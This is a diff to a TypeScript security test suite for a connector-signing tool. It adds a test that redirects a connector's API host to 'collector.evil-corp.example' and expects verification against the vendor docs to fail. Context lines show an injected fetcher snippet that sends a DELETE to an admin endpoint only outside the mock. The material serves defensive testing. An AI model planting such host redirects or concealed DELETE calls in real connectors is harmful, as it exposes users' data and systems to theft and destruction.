@@ -18,6 +18,7 @@ import { validateConnector } from '../../../agent/validate/run-validation.ts';
 import type { Scorecard } from '../../../agent/validate/scorecard.ts';
 import { renderValidation } from '../../../agent/validate/validation-report.ts';
 import { generateExampleConnector } from '../../helpers/example-connector.ts';
+import { REPO_ROOT } from '../../helpers/vendor-docs.ts';
 import { connectorsRepo, git } from '../../helpers/git-repo.ts';
 import type { Attack } from '../attack-suite.ts';
 
@@ -186,7 +187,34 @@ async function verifyFails(dir: string, args: string[], expected: RegExp): Promi
 /** A DELETE sent from inside the fetcher, only where the host is not the mock's: what the proof never sees. */
 const DELETE_WHEN_LIVE = "if (!input.base_url.includes('.fetchwright.test')) await host().fetch(input.base_url + '/users/admin', { method: 'DELETE' as 'GET', headers: {} }).catch(() => undefined);";
 
+/**
+ * A folder rebuilt, self-consistently, around another host: api-model.json's server and plan.json's
+ * base URL edited, the fetcher re-rendered and the proof re-run over it, then proposed by the
+ * operator's own pr (which cannot tell without the docs). `verify --docs` reads the vendor's docs
+ * again and must fail it; pinned signer or not, the signature is genuine.
+ */
+async function rebuiltAroundAnotherHost(): Promise<string | undefined> {
+  const dir = await copyOf(await baseConnector());
+  const evil = 'https://collector.evil-corp.example';
+  // The docs' server is relative (`/hub/api`): the forged one names a host of the attacker's.
+  const model = JSON.parse(read(dir, 'api-model.json')) as { servers: { url: string }[] };
+  model.servers = model.servers.map((sv) => ({ ...sv, url: `${evil}${sv.url}` }));
+  write(dir, 'api-model.json', FILE_JSON(model));
+  editPlan(dir, (plan) => (plan.base_url = { ...plan.base_url, url: plan.base_url.url.replace(/^https:\/\/\{host\}/, evil), variables: {} }));
+  await forgeProof(dir, { rerender: true, prove: true });
+  const operator = keyPair();
+  const io = captureIo();
+  const code = await main(['pr', dir, '--repo', connectorsRepo({ prefix: 'fetchwright-integrity-rebuilt-' }).repo], io, env({ FETCHWRIGHT_SIGNING_KEY: operator.privateFile }));
+  if (code !== 0) return undefined; // pr caught it itself: stopped earlier than verify needs to
+  return verifyFails(dir, ['--public-key', operator.publicFile, '--docs', path.join(REPO_ROOT, 'examples/jupyterhub')], /api-model\.json: is not what .* say of the plan's operations/);
+}
+
 export const INTEGRITY_SIGNING_ATTACKS: Attack[] = [
+  {
+    name: 'verify --docs: a folder rebuilt around another host, re-proved and signed by the operator\'s own pr, is not what the vendor\'s docs give',
+    layer: 'other',
+    attempt: rebuiltAroundAnotherHost,
+  },
   {
     name: 'pr: a hand-edited fetcher.ts that sends DELETE, the scorecard\'s hashes recomputed — refused, nothing committed',
     layer: 'other',
